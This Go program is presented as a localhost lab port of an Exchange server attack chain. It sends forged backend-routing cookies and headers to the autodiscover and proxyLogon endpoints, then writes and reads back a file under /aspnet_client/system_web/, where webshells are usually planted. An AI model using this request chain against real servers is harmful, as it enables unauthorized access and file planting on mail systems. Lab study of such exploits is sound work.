// Package main: Go port of the lab request chain (toy server on 127.0.0.1 only).
package main

import (
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"
)

const (
	host          = "127.0.0.1"
	chromeVersion = "88.0.4324.190"
	noteDir       = "/aspnet_client/system_web/"
	noteID        = 91453
	backendTicket = 1843073522
	requestID     = "20200302-7720"
	padLength     = 37
	labDomain     = "lab.invalid"
	mailbox       = "administrator@" + labDomain
)

var userAgent = fmt.Sprintf("Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%s Safari/537.36", chromeVersion)

func notePath() string {
	return fmt.Sprintf("%sreadme_%d.txt", noteDir, noteID)
}

func browserHeaders(req *http.Request) {
	req.Header.Set("User-Agent", userAgent)
	req.Header.Set("x-requested-with", "XMLHttpRequest")
	req.Header.Set("Accept", "*/*")
	req.Header.Set("accept-language", "en-US,en;q=0.9")
	req.Header.Set("connection", "close")
}

func routingCookie() string {
	backend := fmt.Sprintf("localhost@%s/ews/exchange.asmx?a%%3D~%d", labDomain, backendTicket)
	return strings.Join([]string{
		"X-AnonResource=true",
		"X-AnonResource-Backend=" + labDomain,
		"X-BEResource=" + backend,
	}, "; ")
}

func do(client *http.Client, req *http.Request) (int, []byte) {
	resp, err := client.Do(req)
	if err != nil {
		fmt.Fprintln(os.Stderr, "request failed:", err)
		os.Exit(1)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 1024))
	return resp.StatusCode, body
}

func main() {
	port := "8080"
	if len(os.Args) > 1 {
		port = os.Args[1]
	}
	base := fmt.Sprintf("http://%s:%s", host, port)
	client := &http.Client{Timeout: 10 * time.Second}

	query := url.Values{}
	query.Set("Pad", strings.Repeat("A", padLength))
	query.Set("Protocol", "Autodiscoverv1")
	query.Set("Email", mailbox+"/mapi/nspi")
	query.Set("RequestId", requestID)
	probe, _ := http.NewRequest(http.MethodGet, base+"/autodiscover/autodiscover.json?"+query.Encode(), nil)
	browserHeaders(probe)
	probe.Header.Set("cookie", routingCookie())
	status, _ := do(client, probe)
	if status >= 500 {
		os.Exit(1)
	}

	payload := fmt.Sprintf(`{"mailbox": "%s", "requestKind": "identity", "seq": 1}`, mailbox)
	ident, _ := http.NewRequest(http.MethodPost, base+"/ecp/proxyLogon.ecp", strings.NewReader(payload))
	ident.Header.Set("user-agent", userAgent)
	ident.Header.Set("msexchlogonmailbox", "S-1-5-20")
	ident.Header.Set("content-type", "application/json")
	ident.Header.Set("X-BEResource", fmt.Sprintf("localhost@%s/ecp/proxyLogon.ecp", labDomain))
	status, body := do(client, ident)
	who := strings.TrimSpace(string(body))
	if status != 200 || who == "" {
		who = "anonymous"
	}

	var lines []string
	for i := 1; i <= 3; i++ {
		lines = append(lines, fmt.Sprintf("note %d of 3 for %s", i, who))
	}
	note, _ := http.NewRequest(http.MethodPost, base+notePath(), strings.NewReader(strings.Join(lines, "\n")))
	note.Header.Set("user-agent", userAgent)
	note.Header.Set("X-Note-Path", notePath())
	note.Header.Set("Content-Type", "text/plain")
	do(client, note)

	check, _ := http.NewRequest(http.MethodGet, base+notePath(), nil)
	browserHeaders(check)
	_, body = do(client, check)
	fmt.Println(len(body))
}
